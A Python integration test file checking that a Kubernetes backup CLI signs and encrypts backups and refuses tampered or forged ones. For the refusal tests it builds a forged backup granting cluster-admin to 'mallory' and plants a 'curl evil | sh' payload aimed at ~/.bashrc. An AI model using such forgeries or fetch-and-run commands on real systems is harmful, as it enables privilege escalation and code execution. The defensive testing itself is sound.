"""Signed and encrypted backups end to end: `backupctl` processes, a real sandbox, and
real object stores (MinIO and fake-gcs-server).

A location gets a signing key and an encryption key (`location keygen`); a backup of a
namespace holding a canary Secret then round-trips (restore, show, download), while
the bucket never holds the canary; a wrong key, a flipped byte in the archive or in
backup.json, and a forged backup adding a cluster-admin binding are each refused in
one line, creating nothing.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import stat
import subprocess
import sys
import tarfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from backupd.api.backup import Backup
from backupd.api.common import ObjectMeta, Phase
from backupd.archive.writer import ArchiveWriter, gzip_file
from backupd.sandbox.cluster import Sandbox
from backupd.storage import sealing
from backupd.storage.layout import BackupKeys
from backupd.storage.location import Location, open_location
from backupd.trust.keys import Keyring, generate_kek, generate_signing_key
from tests.fixtures.archives import add_object
from tests.fixtures.cli import backupctl, error_line
from tests.fixtures.objectstores import unique_bucket
from tests.fixtures.runbooks import run_runbook
from tests.fixtures.workloads import configmap, secret

pytestmark = pytest.mark.integration


@dataclass
class Sealed:
    """A keyed location `sealed` (the default) in a fresh bucket, and the CLI env."""

    env: dict[str, str]
    url: str
    credentials: dict[str, str]
    keys: Path

    def raw(self) -> Location:
        """The bucket as an attacker or an operator sees it: no keys."""
        return open_location(self.url, credentials=self.credentials)

    def ok(self, *args: str) -> str:
        res = backupctl(*args, env=self.env)
        assert res.returncode == 0, res.stderr
        return res.stdout

    def refused(self, *args: str, env: dict[str, str] | None = None) -> str:
        return error_line(backupctl(*args, env=env or self.env))


def make_sealed(tmp_path: Path, cluster: Sandbox, url: str, credentials: dict[str, str]) -> Sealed:
    env = {
        "KUBECONFIG": str(cluster.kubeconfig),
        "BACKUPD_CONFIG": str(tmp_path / "config" / "config.yaml"),
        "AWS_EC2_METADATA_DISABLED": "true",
        **credentials,
    }
    sealed = Sealed(env, url, credentials, tmp_path / "keys")
    sealed.ok("location", "add", "sealed", "--url", url, "--default")
    sealed.ok("location", "keygen", "sealed", "--dir", str(sealed.keys))
    sealed.ok("location", "keygen", "sealed", "--dir", str(sealed.keys), "--encryption")
    return sealed


@pytest.fixture(params=["minio", "gcs"])
def sealed(request: pytest.FixtureRequest, tmp_path: Path, cluster: Sandbox) -> Sealed:
    server = request.getfixturevalue(
        {"minio": "minio_server", "gcs": "fake_gcs_server"}[request.param]
    )
    bucket = server.create_bucket(unique_bucket("sealed"))
    return make_sealed(tmp_path, cluster, server.url(bucket, "team"), server.credentials)


@pytest.fixture()
def canary() -> str:
    return f"canary-{uuid.uuid4().hex}"


@pytest.fixture()
def app(kube: client.ApiClient, namespace: str, canary: str) -> Iterator[str]:
    core = client.CoreV1Api(kube)
    core.create_namespaced_secret(namespace, secret("db", password=canary))
    core.create_namespaced_config_map(namespace, configmap("settings", mode="prod"))
    yield namespace
    for ns in (f"{namespace}-r", f"{namespace}-t"):
        with contextlib.suppress(ApiException):
            core.delete_namespace(ns)


def bucket_bytes(location: Location) -> bytes:
    return b"".join(location.get_bytes(key) for key in location.list(""))


def namespace_exists(kube: client.ApiClient, name: str) -> bool:
    try:
        client.CoreV1Api(kube).read_namespace(name)
    except ApiException as e:
        assert e.status == 404
        return False
    return True


def flip_byte(location: Location, key: str, where: int) -> None:
    data = bytearray(location.get_bytes(key))
    data[where] ^= 0x01
    location.put_bytes(key, bytes(data))


def test_a_signed_encrypted_backup_round_trips_and_the_bucket_never_holds_the_secret(
    sealed: Sealed, kube: client.ApiClient, app: str, canary: str, tmp_path: Path
) -> None:
    created = json.loads(
        sealed.ok("backup", "create", "b1", "--include-namespaces", app, "-o", "json")
    )
    assert created["status"]["phase"] == "Completed"
    assert created["status"]["encryption"]["algorithm"] == "AES-256-GCM-chunked-v1"

    raw = sealed.raw()
    stored = json.loads(raw.get_bytes(BackupKeys("b1").metadata))
    assert stored["signature"]["algorithm"] == "Ed25519"
    everything = bucket_bytes(raw)
    assert canary.encode() not in everything
    assert base64.b64encode(canary.encode()) not in everything
    assert b"settings" not in everything  # even names are inside the encrypted archive

    described = json.loads(sealed.ok("backup", "describe", "b1", "-o", "json"))
    assert described["signature"]["keyId"] == stored["signature"]["keyId"]
    shown = json.loads(
        sealed.ok("backup", "show", "b1", "configmap/settings", "-n", app, "-o", "json")
    )
    assert shown["data"] == {"mode": "prod"}

    res = backupctl(
        "restore",
        "create",
        "--from-backup",
        "b1",
        "--namespace-mappings",
        f"{app}:{app}-r",
        "-o",
        "json",
        env=sealed.env,
    )
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["status"]["phase"] == "Completed"
    restored = client.CoreV1Api(kube).read_namespaced_secret("db", f"{app}-r")
    assert base64.b64decode(restored.data["password"]).decode() == canary

    out = tmp_path / "dl"
    path = Path(sealed.ok("backup", "download", "b1", "-d", str(out)).strip())
    assert path == out / "b1.tar.gz"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with tarfile.open(path) as tar:
        names = tar.getnames()
    assert any(n.endswith(f"namespaces/{app}/db.json") for n in names)
    assert "already exists" in sealed.refused("backup", "download", "b1", "-d", str(out))
    sealed.ok("backup", "download", "b1", "-d", str(out), "--force")
    assert sorted(os.listdir(out)) == ["b1.tar.gz"]


def test_a_wrong_key_a_flipped_byte_in_the_archive_or_in_backup_json_is_one_line(
    sealed: Sealed, kube: client.ApiClient, app: str, tmp_path: Path
) -> None:
    sealed.ok("backup", "create", "b1", "--include-namespaces", app)
    raw = sealed.raw()
    keys = BackupKeys("b1")

    # the same location, holding only another encryption key
    other = {**sealed.env, "BACKUPD_CONFIG": str(tmp_path / "other" / "config.yaml")}
    config = yaml_config(sealed)
    backupctl("location", "add", "sealed", "--url", sealed.url, "--default", env=other)
    signing = config["signing_key"]
    assert (
        backupctl("location", "set", "sealed", "--signing-key", signing, env=other).returncode == 0
    )
    assert (
        backupctl(
            "location", "keygen", "sealed", "--encryption", "--dir", str(tmp_path / "k2"), env=other
        ).returncode
        == 0
    )
    line = sealed.refused("backup", "show", "b1", "configmap/settings", "-n", app, env=other)
    assert "backup b1 is encrypted with key" in line and "which this location does not have" in line
    line = sealed.refused(
        "restore",
        "create",
        "--from-backup",
        "b1",
        "--namespace-mappings",
        f"{app}:{app}-t",
        env=other,
    )
    assert "which this location does not have" in line
    assert not namespace_exists(kube, f"{app}-t")

    # one flipped byte in the archive
    archive = keys.archive()
    original = raw.get_bytes(archive)
    flip_byte(raw, archive, len(original) // 2)
    line = sealed.refused("backup", "show", "b1", "configmap/settings", "-n", app)
    assert "backup b1" in line and ("tampered" in line or "corrupt" in line)
    line = sealed.refused(
        "restore", "create", "--from-backup", "b1", "--namespace-mappings", f"{app}:{app}-t"
    )
    assert "backup b1" in line
    assert not namespace_exists(kube, f"{app}-t")
    raw.put_bytes(archive, original)
    sealed.ok("backup", "show", "b1", "configmap/settings", "-n", app)

    # one changed byte in backup.json (still valid JSON)
    record = raw.get_bytes(keys.metadata)
    assert b'"720h"' in record
    raw.put_bytes(keys.metadata, record.replace(b'"720h"', b'"721h"'))
    for args in (
        ("backup", "describe", "b1"),
        ("backup", "show", "b1", "configmap/settings", "-n", app),
        ("backup", "download", "b1", "-d", str(tmp_path / "dl")),
        ("restore", "create", "--from-backup", "b1", "--namespace-mappings", f"{app}:{app}-t"),
    ):
        line = sealed.refused(*args)
        assert "backup b1: signature does not verify with key" in line, line
        assert "the backup may have been tampered with" in line
    assert not namespace_exists(kube, f"{app}-t")
    assert not (tmp_path / "dl").exists() or not list((tmp_path / "dl").iterdir())


def yaml_config(sealed: Sealed) -> dict[str, Any]:
    import yaml

    data = yaml.safe_load(Path(sealed.env["BACKUPD_CONFIG"]).read_text())
    return next(e for e in data["locations"] if e["name"] == "sealed")


def forge(location: Location, name: str, namespace: str, work: Path, keyring: Keyring) -> None:
    """What an attacker with write access to the bucket can do: a complete backup,
    archive, index and backup.json consistent with each other (every digest right),
    holding a namespace and a ClusterRoleBinding of a stranger to cluster-admin."""
    work.mkdir()
    writer = ArchiveWriter(
        work / "resources.gzip",
        work / "index.jsonl",
        compression="gzip",
        header={"backup": name, "cluster": {}, "created": "2026-11-26T00:00:00Z"},
    )
    ns = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace}}
    add_object(writer, ns, "namespaces")
    crb = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": f"{namespace}-owned"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "User", "name": "mallory", "apiGroup": "rbac.authorization.k8s.io"}],
    }
    add_object(writer, crb, "clusterrolebindings")
    writer.close()
    gzip_file(writer.index_path, work / "index.jsonl.gz")
    keys = BackupKeys(name)
    backup = Backup(metadata=ObjectMeta(name=name))
    backup.spec.included_namespaces = [namespace]
    backup.status.phase = Phase.completed
    backup.status.namespace_counts = {namespace: 1}
    backup.status.resource_counts = {
        "namespaces": 1,
        "clusterrolebindings.rbac.authorization.k8s.io": 1,
    }
    backup.status.archive = sealing.put_file(location, keys.archive(), writer.path)
    backup.status.index = sealing.put_file(location, keys.index, work / "index.jsonl.gz")
    location.put_bytes(keys.metadata, sealing.record_bytes(backup, keyring))


def test_a_forged_backup_granting_cluster_admin_is_refused_where_the_location_has_a_key(
    tmp_path: Path, cluster: Sandbox, kube: client.ApiClient, minio_server: Any
) -> None:
    bucket = minio_server.create_bucket(unique_bucket("forged"))
    sealed = make_sealed(
        tmp_path, cluster, minio_server.url(bucket, "team"), minio_server.credentials
    )
    target = f"forged-{uuid.uuid4().hex[:6]}"
    raw = sealed.raw()
    forge(raw, "forged", target, tmp_path / "unsigned", Keyring())
    forge(
        raw, "mallory", target, tmp_path / "signed", Keyring.build(signing=generate_signing_key())
    )

    # the forgery is a consistent backup: a location without keys reads it
    plain = {**sealed.env, "BACKUPD_CONFIG": str(tmp_path / "plain.yaml")}
    shown = backupctl(
        "backup",
        "show",
        "forged",
        "clusterrolebinding/" + f"{target}-owned",
        "-o",
        "json",
        "--location",
        sealed.url,
        env=plain,
    )
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["roleRef"]["name"] == "cluster-admin"

    line = sealed.refused("restore", "create", "--from-backup", "forged", "--allow-privileged")
    assert "backup forged is not signed" in line and "--allow-unsigned" in line
    line = sealed.refused("restore", "create", "--from-backup", "mallory", "--allow-privileged")
    assert "signed with key" in line and "does not trust" in line
    line = sealed.refused(
        "restore", "create", "--from-backup", "mallory", "--allow-privileged", "--allow-unsigned"
    )
    assert "does not trust" in line
    for args in (
        ("backup", "describe", "forged"),
        ("backup", "download", "forged", "-d", str(tmp_path / "x")),
    ):
        assert "not signed" in sealed.refused(*args)
    rbac = client.RbacAuthorizationV1Api(kube)
    with pytest.raises(ApiException) as e:
        rbac.read_cluster_role_binding(f"{target}-owned")
    assert e.value.status == 404
    assert not namespace_exists(kube, target)
    listed = backupctl("backup", "get", "-o", "json", env=sealed.env)
    assert listed.returncode == 0 and json.loads(listed.stdout)["items"] == []
    assert "skipping backups/forged/backup.json" in listed.stderr


def test_after_keygen_rotates_both_keys_old_backups_still_verify_and_decrypt(
    tmp_path: Path, cluster: Sandbox, app: str
) -> None:
    sealed = make_sealed(tmp_path, cluster, (tmp_path / "store").as_uri(), {})
    sealed.ok("backup", "create", "old", "--include-namespaces", app)
    before = json.loads(sealed.ok("backup", "describe", "old", "-o", "json"))

    made = json.loads(
        sealed.ok("location", "keygen", "sealed", "--dir", str(sealed.keys), "-o", "json")
    )
    assert made["keys"]["trusted_keys"] == sorted(
        [before["signature"]["keyId"], made["signing_key"]]
    )
    sealed.ok("location", "keygen", "sealed", "--dir", str(sealed.keys), "--encryption")
    for key_file in sealed.keys.iterdir():
        assert stat.S_IMODE(key_file.stat().st_mode) == 0o600, key_file
    sealed.ok("backup", "create", "new", "--include-namespaces", app)
    after = json.loads(sealed.ok("backup", "describe", "new", "-o", "json"))

    assert after["signature"]["keyId"] == made["signing_key"] != before["signature"]["keyId"]
    assert after["status"]["encryption"]["keyId"] != before["status"]["encryption"]["keyId"]
    for name in ("old", "new"):
        shown = json.loads(
            sealed.ok("backup", "show", name, "configmap/settings", "-n", app, "-o", "json")
        )
        assert shown["data"] == {"mode": "prod"}

    sealed.ok("location", "set", "sealed", "--untrust-key", before["signature"]["keyId"])
    line = sealed.refused("backup", "show", "old", "configmap/settings", "-n", app)
    assert (
        f"signed with key {before['signature']['keyId']}, which this location does not trust"
        in line
    )
    sealed.ok("backup", "show", "new", "configmap/settings", "-n", app)


def test_location_download_writes_0600_and_never_overwrites_without_force(tmp_path: Path) -> None:
    url = (tmp_path / "store").as_uri()
    open_location(url).put_bytes("backups/a/backup.json", b"{}")
    env = {"BACKUPD_CONFIG": str(tmp_path / "config.yaml")}
    dest = tmp_path / "out.json"
    args = ("location", "download", url, "backups/a/backup.json", str(dest))
    assert backupctl(*args, env=env).returncode == 0
    assert stat.S_IMODE(dest.stat().st_mode) == 0o600 and dest.read_bytes() == b"{}"
    dest.write_bytes(b"mine")
    assert "already exists" in error_line(backupctl(*args, env=env))
    assert dest.read_bytes() == b"mine"
    assert backupctl(*args, "--force", env=env).returncode == 0
    assert dest.read_bytes() == b"{}" and sorted(os.listdir(tmp_path)) == ["out.json", "store"]


def test_a_record_naming_bashrc_as_its_archive_downloads_nothing(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    location = open_location((tmp_path / "store").as_uri())
    forge(location, "n", "shop", tmp_path / "work", Keyring())
    keys = BackupKeys("n")
    location.put_bytes(keys.prefix + ".bashrc", b"curl evil | sh\n")
    record = json.loads(location.get_bytes(keys.metadata))
    record["status"]["archive"]["key"] = keys.prefix + ".bashrc"
    location.put_bytes(keys.metadata, json.dumps(record).encode())
    env = {"BACKUPD_CONFIG": str(tmp_path / "config.yaml"), "HOME": str(home)}
    res = subprocess_in(home, "backup", "download", "n", "--location", location.url, env=env)
    line = error_line(res)
    assert "names 'backups/n/.bashrc' as its archive" in line
    assert (home / ".bashrc").read_text() == "# mine\n" and sorted(os.listdir(home)) == [".bashrc"]


def subprocess_in(cwd: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`backupctl` run from `cwd` (where `backup download` writes by default)."""
    return subprocess.run(
        [sys.executable, "-m", "cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=cwd,
        env={**os.environ, **env},
    )


def test_keys_can_live_in_kubernetes_secrets(
    tmp_path: Path, cluster: Sandbox, kube: client.ApiClient, app: str
) -> None:
    signing, kek = generate_signing_key(), generate_kek()
    client.CoreV1Api(kube).create_namespaced_secret(
        app,
        {
            "metadata": {"name": "backup-keys"},
            "data": {
                "signing.key": base64.b64encode(signing.pem()).decode(),
                "encryption.key": base64.b64encode(kek.text()).decode(),
            },
        },
    )
    env = {"KUBECONFIG": str(cluster.kubeconfig), "BACKUPD_CONFIG": str(tmp_path / "c.yaml")}
    url = (tmp_path / "store").as_uri()
    ref = f"secret:{app}/backup-keys"
    add = backupctl(
        "location",
        "add",
        "k8s",
        "--url",
        url,
        "--default",
        "--signing-key",
        ref,
        "--encryption-key",
        ref,
        "-o",
        "json",
        env=env,
    )
    assert add.returncode == 0, add.stderr
    assert json.loads(add.stdout)["signing_key"] == ref
    res = backupctl("backup", "create", "b1", "--include-namespaces", app, "-o", "json", env=env)
    assert res.returncode == 0, res.stderr
    described = json.loads(backupctl("backup", "describe", "b1", "-o", "json", env=env).stdout)
    assert described["signature"]["keyId"] == signing.key_id
    assert described["status"]["encryption"]["keyId"] == kek.key_id
    missing = backupctl(
        "location", "add", "nope", "--url", url, "--signing-key", f"secret:{app}/absent", env=env
    )
    assert "absent" in error_line(missing)


def test_the_sign_and_encrypt_runbook_runs_as_written(
    tmp_path: Path, cluster: Sandbox, app: str
) -> None:
    env = {
        **os.environ,
        "KUBECONFIG": str(cluster.kubeconfig),
        "BACKUPD_CONFIG": str(tmp_path / "config.yaml"),
        "HOME": str(tmp_path / "home"),
        "LOCATION_URL": (tmp_path / "store").as_uri(),
        "NAMESPACE": app,
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
    }
    res = run_runbook("sign-and-encrypt.md", env)
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    keys = sorted(p.suffix for p in (tmp_path / "home" / ".config" / "backupd" / "keys").iterdir())
    assert keys == [".kek", ".kek", ".key", ".key", ".pub", ".pub"]
    stored = b"".join(p.read_bytes() for p in (tmp_path / "store").rglob("*") if p.is_file())
    assert b"settings" not in stored  # the archives and indexes are encrypted
